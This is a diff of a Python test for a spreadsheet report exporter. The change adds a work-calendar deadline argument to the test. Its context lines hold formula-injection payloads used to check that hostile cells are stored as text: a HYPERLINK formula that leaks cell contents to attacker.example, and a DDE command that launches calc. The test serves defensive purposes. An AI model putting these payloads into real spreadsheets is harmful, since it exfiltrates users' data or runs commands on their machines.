@@ -11,6 +11,7 @@ from openpyxl import load_workbook
 from documents.report_rows import Report, Row, make_period
 from documents.report_xlsx import report_xlsx
 from models.progress import tally
+from scheduler.workdays import WorkCalendar
 
 LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm để xem")'
 HOSTILE = (LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")
@@ -28,7 +29,7 @@ def test_hostile_cells_are_written_as_text() -> None:
         period=make_period("quy", 2026, date(2026, 3, 1), 1),
         as_of=date(2026, 3, 1),
         rows=rows,
-        progress=tally([], date(2026, 3, 1)),
+        progress=tally([], date(2026, 3, 1), deadline_end=WorkCalendar().deadline_end),
     )
     sheet = load_workbook(BytesIO(report_xlsx(report)))["Kết quả thực hiện"]
     cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
